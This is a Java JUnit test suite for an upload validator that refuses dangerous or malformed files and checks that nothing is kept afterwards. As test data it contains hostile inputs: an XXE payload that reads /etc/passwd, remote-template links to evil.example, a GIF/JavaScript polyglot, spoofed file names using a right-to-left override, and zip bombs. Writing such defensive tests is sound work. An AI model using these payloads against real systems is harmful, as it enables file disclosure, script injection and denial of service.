package com.mockhu.dm.file.intake;

import static com.mockhu.dm.file.type.FileReason.ACTIVE_CONTENT;
import static com.mockhu.dm.file.type.FileReason.ARCHIVE_DEPTH;
import static com.mockhu.dm.file.type.FileReason.ARCHIVE_ENTRIES;
import static com.mockhu.dm.file.type.FileReason.ARCHIVE_RATIO;
import static com.mockhu.dm.file.type.FileReason.CARRIES_PROGRAM;
import static com.mockhu.dm.file.type.FileReason.CONTENT_MISMATCH;
import static com.mockhu.dm.file.type.FileReason.DAMAGED;
import static com.mockhu.dm.file.type.FileReason.DANGEROUS_EXTENSION;
import static com.mockhu.dm.file.type.FileReason.DOCUMENT_TYPE;
import static com.mockhu.dm.file.type.FileReason.EMPTY;
import static com.mockhu.dm.file.type.FileReason.ENCRYPTED;
import static com.mockhu.dm.file.type.FileReason.MACROS;
import static com.mockhu.dm.file.type.FileReason.PICTURE_DAMAGED;
import static com.mockhu.dm.file.type.FileReason.REMOTE_CONTENT;
import static com.mockhu.dm.file.type.FileReason.TOO_LARGE;
import static com.mockhu.dm.file.type.FileReason.TOO_MANY_PIXELS;
import static com.mockhu.dm.file.type.FileReason.TWO_KINDS;
import static com.mockhu.dm.file.type.FileReason.UNSUPPORTED_TYPE;
import static org.junit.jupiter.api.Assertions.assertEquals;
import static org.junit.jupiter.api.Assertions.assertTrue;

import com.fasterxml.jackson.databind.JsonNode;
import com.mockhu.dm.file.type.FileReason;
import com.mockhu.dm.support.file.Papers;
import com.mockhu.dm.support.file.Pixels;
import com.mockhu.dm.support.file.Samples;
import com.mockhu.dm.support.file.Workbooks;
import com.mockhu.dm.support.http.Answer;
import com.mockhu.dm.support.http.Form;
import com.mockhu.dm.support.person.CampusTest;
import java.io.IOException;
import java.io.UncheckedIOException;
import java.nio.file.Files;
import java.nio.file.Path;
import java.util.List;
import java.util.Map;
import java.util.Set;
import java.util.TreeSet;
import java.util.regex.Pattern;
import java.util.stream.Collectors;
import java.util.stream.Stream;
import org.junit.jupiter.api.AfterEach;
import org.junit.jupiter.api.BeforeEach;
import org.junit.jupiter.api.Test;
import org.junit.jupiter.api.io.TempDir;
import org.junit.jupiter.params.ParameterizedTest;
import org.junit.jupiter.params.provider.Arguments;
import org.junit.jupiter.params.provider.MethodSource;

/** What is refused, in which words, and that nothing of it stays anywhere. */
class UploadRefusalTest extends CampusTest {
  private static final Map<String, Pattern> SAYINGS =
      Map.of(
          "macros.docx", Pattern.compile("^The file contains macros. Save it without macros.$"),
          "marks.json", Pattern.compile("not valid JSON at line 3, column \\d. Correct it"),
          "marks.xml", Pattern.compile("not valid XML at line 2, column \\d. Correct it"),
          "setup.exe", Pattern.compile("^File type not supported. Allowed: JPEG, PNG, PDF, DOCX"));

  private static final int MEGABYTE = 1 << 20;

  @TempDir static Path folder;
  private Set<String> temporaryBefore;

  @Override
  protected Map<String, String> settings() {
    return Map.of("DM_DATA_DIR", folder.toString(), "DM_STORAGE_USER_MEGABYTES", "1");
  }

  static Stream<Arguments> bad() {
    return Stream.of(
        file("setup.exe", Papers.text("MZ"), DANGEROUS_EXTENSION),
        file("run.sh", Papers.text("echo"), DANGEROUS_EXTENSION),
        file("photo.exe.jpg", Pixels.jpeg(9, 9), DANGEROUS_EXTENSION),
        file("photo.jpg.EXE", Pixels.jpeg(9, 9), DANGEROUS_EXTENSION),
        file("page.Js .txt", Papers.text("a"), DANGEROUS_EXTENSION),
        file("page.\uFF4A\uFF53.txt", Papers.text("a"), DANGEROUS_EXTENSION),
        file("a.e\u202Exe.txt", Papers.text("a"), DANGEROUS_EXTENSION),
        file("no-extension", Papers.text("a"), UNSUPPORTED_TYPE),
        file("film.mp4", Papers.text("a"), UNSUPPORTED_TYPE),
        file("drawing.svg", Papers.text("<svg/>"), UNSUPPORTED_TYPE),
        file("empty.txt", new byte[0], EMPTY),
        file("photo.jpg", Pixels.png(9, 9), CONTENT_MISMATCH),
        file("photo.png", Papers.text("no picture"), CONTENT_MISMATCH),
        file("photo.webp", Papers.text("RIFF0000WAVE"), CONTENT_MISMATCH),
        file("thesis.pdf", Papers.text("plain"), CONTENT_MISMATCH),
        file("notes.txt", Papers.pdf(), CONTENT_MISMATCH),
        file("notes.txt", new byte[] {'M', 'Z', 0, 0}, CONTENT_MISMATCH),
        file("thesis.docx", Papers.zip("a.txt", Papers.text("a")), CONTENT_MISMATCH),
        file("thesis.docx", Papers.xlsx(), CONTENT_MISMATCH),
        file("thesis.zip", Papers.docx(), CONTENT_MISMATCH),
        file("old.doc", Papers.compound("Root Entry", "Workbook"), CONTENT_MISMATCH),
        file("drawing.xml", Papers.text("<svg/>"), CONTENT_MISMATCH),
        file("photo.jpg", cut(Pixels.jpeg(90, 90)), PICTURE_DAMAGED),
        file("photo.png", cut(Pixels.png(90, 90)), PICTURE_DAMAGED),
        file("photo.png", hugePng(), TOO_MANY_PIXELS),
        file("thesis.pdf", Papers.text("%PDF-1.7\nnothing"), DAMAGED),
        file("thesis.pdf", Papers.pdfWithScript(), ACTIVE_CONTENT),
        file("thesis.pdf", Papers.pdfThatStartsPrograms(), ACTIVE_CONTENT),
        file("thesis.pdf", Papers.pdfWithActionOnPage(), ACTIVE_CONTENT),
        file("thesis.pdf", Papers.pdfWithFile("setup.exe"), CARRIES_PROGRAM),
        file("thesis.pdf", Papers.pdfWithPassword(), ENCRYPTED),
        file("thesis.pdf", Papers.joined(Papers.pdf(), archive()), TWO_KINDS),
        file("old.doc", Papers.joined(Papers.compound("R", "WordDocument"), archive()), TWO_KINDS),
        file("code.rar", Papers.joined(Papers.rar("a", 0), archive()), TWO_KINDS),
        file("photo.gif", Papers.text("GIF89a=1;alert(document.domain)//"), PICTURE_DAMAGED),
        file("photo.webp", cut(Samples.of("animated.webp")), PICTURE_DAMAGED),
        file("thesis.docx", Papers.docxWithMacros(), MACROS),
        file("thesis.zip", Papers.zip("word/vbaProject.bin", Papers.text("m")), MACROS),
        file("thesis.docx", docx("attachedTemplate", "http://evil.example/t.dotm"), REMOTE_CONTENT),
        file("thesis.docx", docx("attached&#84;emplate", "\\\\evil\\t.dotm"), REMOTE_CONTENT),
        file("thesis.docx", docx("oleObject", "http://evil.example/x.html!"), REMOTE_CONTENT),
        file("thesis.docx", Papers.compound("Root Entry", "EncryptedPackage"), ENCRYPTED),
        file("old.doc", Papers.compound("Root Entry", "WordDocument", "Macros"), MACROS),
        file("old.xls", Papers.compound("R", "Workbook", "_VBA_PROJECT_CUR"), MACROS),
        file("old.doc", Samples.of("macros.doc"), MACROS),
        file("old.xls", Samples.of("macros.xls"), MACROS),
        file("thesis.docx", Samples.of("macros.docm"), MACROS),
        file("old.xls", Workbooks.withSheet(1), MACROS),
        file("marks.xlsx", Papers.xlsxWithMacroSheet(), MACROS),
        file("old.xls", Workbooks.withPassword(), ENCRYPTED),
        file("old.doc", Workbooks.textWithPassword(), ENCRYPTED),
        file("code.zip", cut(Papers.zip("a", new byte[900])), DAMAGED),
        file("code.zip", Papers.zipWithPassword(), ENCRYPTED),
        file("code.7z", Papers.sevenZip(Papers.text("a"), "secret"), ENCRYPTED),
        file("code.rar", Papers.rar("a", 4), ENCRYPTED),
        file("code.rar", Papers.text("Rar!\u001A\u0007 nothing"), DAMAGED),
        file("bomb.zip", Papers.zip("zeros", new byte[5 * MEGABYTE]), ARCHIVE_RATIO),
        file(
            "bomb.zip",
            Papers.zip("a.zip", Papers.zip("zeros", new byte[5 * MEGABYTE])),
            ARCHIVE_RATIO),
        file(
            "bomb.zip", Papers.zip("zeros.gz", Papers.gzip(new byte[5 * MEGABYTE])), ARCHIVE_RATIO),
        file(
            "bomb.zip",
            Papers.zip("a.tar.gz", Papers.gzip(Papers.tar("z", new byte[5 * MEGABYTE]))),
            ARCHIVE_RATIO),
        file(
            "deep.zip",
            Papers.zip("a.tar.gz", Papers.gzip(Papers.tar("a.zip", archive()))),
            ARCHIVE_DEPTH),
        file("bomb.7z", Papers.sevenZip(new byte[5 * MEGABYTE], null), ARCHIVE_RATIO),
        file("many.zip", Papers.zipWithEntries(10_001), ARCHIVE_ENTRIES),
        file("deep.zip", Papers.nested(4), ARCHIVE_DEPTH),
        file("marks.json", Papers.text("{\"a\": "), DAMAGED),
        file("marks.csv", Papers.text("a,\"b\n"), DAMAGED),
        file("marks.xml", Papers.text("<a><b></a>"), DAMAGED),
        file(
            "marks.xml",
            Papers.text("<!DOCTYPE a [<!ENTITY x SYSTEM \"file:///etc/passwd\">]><a>&x;</a>"),
            DOCUMENT_TYPE));
  }

  private static byte[] archive() {
    return Papers.zip("a.txt", Papers.text("a"));
  }

  /** The order of attributes and the way they are written mean nothing. */
  private static byte[] docx(String type, String target) {
    return Papers.docxReferringTo(
        "TargetMode='External' Target='%s' Type='http://x/%s'".formatted(target, type));
  }

  private static Arguments file(String name, byte[] content, FileReason reason) {
    return Arguments.of(name, content, reason);
  }

  @ParameterizedTest(name = "{0}: {2}")
  @MethodSource("bad")
  void a_bad_file_refuses_the_whole_upload(String name, byte[] content, FileReason reason) {
    Form form = Form.files().file("good.txt", Papers.text("good")).file(name, content);
    Answer answer = alice.triesToUpload(form);
    JsonNode error = answer.isRefused(400, "file_refused");
    JsonNode details = error.path("details");
    assertEquals(error.path("message"), details.path("reason"));
    assertEquals(reason.code(), details.path("reason_code").asText());
    assertEquals(name.replace("\u202E", ""), details.path("filename").asText());
  }

  @Test
  void a_refusal_says_what_to_do_and_in_data_where() {
    Map.of(
            "macros.docx", Papers.docxWithMacros(),
            "marks.json", Papers.text("{\n  \"a\": [1\n}"),
            "marks.xml", Papers.text("<a>\n<b></a>"),
            "setup.exe", Papers.text("MZ"))
        .forEach(
            (name, content) -> {
              String message =
                  alice
                      .triesToUpload(Form.files().file(name, content))
                      .isRefused(400, "file_refused")
                      .path("message")
                      .asText();
              assertTrue(SAYINGS.get(name).matcher(message).find(), message);
            });
  }

  @Test
  void a_refusal_names_the_bad_one_of_several_without_its_path() {
    Form form =
        Form.files()
            .file("good.txt", Papers.text("good"))
            .file("C:\\\\papers\\\\the\u202Esis.docx", Papers.docxWithMacros());
    JsonNode error = alice.triesToUpload(form).isRefused(400, "file_refused");
    assertEquals("thesis.docx", error.path("details").path("filename").asText());
  }

  static Stream<Arguments> large() {
    return Stream.of(
        Arguments.of(10, "a.jpg"),
        Arguments.of(25, "a.pdf"),
        Arguments.of(50, "a.zip"),
        Arguments.of(10, "a.csv"));
  }

  @ParameterizedTest(name = "{1} over {0} MB")
  @MethodSource("large")
  void a_file_over_the_limit_of_its_kind_is_refused(int megabytes, String name) {
    Form form = Form.files().file(name, new byte[megabytes * MEGABYTE + 1]);
    Answer answer = alice.triesToUpload(form);
    answer.isRefusedBecause(413, "payload_too_large", TOO_LARGE.sentence());
    assertEquals(name, answer.json().at("/error/details/filename").asText());
    assertEquals("too_large", answer.json().at("/error/details/reason_code").asText());
  }

  @Test
  void five_files_are_the_most() {
    Form form = Form.files();
    for (int i = 0; i < 6; i++) {
      form.file("a.txt", Papers.text("a"));
    }
    JsonNode error = alice.triesToUpload(form).isRefused(400, "file_refused");
    assertEquals("Maximum 5 files per message", error.path("message").asText());
  }

  @Test
  void a_form_without_type_or_files_or_with_a_document_among_images_is_refused() {
    byte[] text = Papers.text("a");
    List.of(
            Form.withoutType().file("a.txt", text),
            Form.ofType("video").file("a.txt", text),
            Form.files())
        .forEach(form -> alice.triesToUpload(form).isRefused(400, "invalid_request"));
    JsonNode error =
        alice.triesToUpload(Form.images().file("a.txt", text)).isRefused(400, "file_refused");
    assertEquals("not_an_image", error.at("/details/reason_code").asText());
  }

  @Test
  void a_body_that_is_no_form_or_is_cut_off_is_refused() {
    alice.posts("/v1/messages/upload", Map.of()).isRefused(415, "unsupported_media_type");
    var cut = java.net.http.HttpRequest.BodyPublishers.ofString("------a-boundary-0123456789\r\n");
    campus
        .http()
        .raw(
            "POST",
            "/v1/messages/upload",
            Map.of(
                "Authorization",
                "Bearer " + alice.token(),
                "Content-Type",
                Form.files().contentType()),
            cut)
        .isRefused(400, "invalid_request");
  }

  @Test
  void a_full_quota_is_told_and_keeps_nothing() {
    Form form = Form.files().file("a.txt", "a".repeat(MEGABYTE + 1).getBytes());
    JsonNode error = alice.triesToUpload(form).isRefused(507, "storage_full");
    assertEquals(
        "Server storage limit reached. Please try again later.", error.path("message").asText());
  }

  @BeforeEach
  void look() {
    temporaryBefore = temporary();
  }

  @AfterEach
  void nothing_is_left() throws IOException {
    try (Stream<Path> files = Files.walk(folder.resolve("storage"))) {
      assertEquals(List.of(), files.filter(Files::isRegularFile).toList());
    }
    try (Stream<Path> uploads = Files.list(folder.resolve("storage").resolve("temporary"))) {
      assertEquals(List.of(), uploads.toList());
    }
    assertEquals(0, campus.counts("SELECT count(*) FROM uploads"));
    assertEquals(0, campus.counts("SELECT coalesce(sum(bytes), 0) FROM upload_usage"));
    assertTrue(temporaryBefore.containsAll(temporary()), () -> temporary().toString());
  }

  private static Set<String> temporary() {
    try (Stream<Path> files = Files.list(Path.of(System.getProperty("java.io.tmpdir")))) {
      return files
          .map(file -> file.getFileName().toString())
          .filter(name -> name.startsWith("inner") || name.startsWith("PDFBox"))
          .collect(Collectors.toCollection(TreeSet::new));
    } catch (IOException e) {
      throw new UncheckedIOException(e);
    }
  }

  private static byte[] cut(byte[] content) {
    return java.util.Arrays.copyOf(content, content.length / 2);
  }

  /** A few bytes that claim to be 30,000 by 30,000. */
  private static byte[] hugePng() {
    byte[] png = Pixels.png(9, 9);
    java.nio.ByteBuffer.wrap(png).putInt(16, 30_000).putInt(20, 30_000);
    java.util.zip.CRC32 crc = new java.util.zip.CRC32();
    crc.update(png, 12, 17);
    java.nio.ByteBuffer.wrap(png).putInt(29, (int) crc.getValue());
    return png;
  }
}
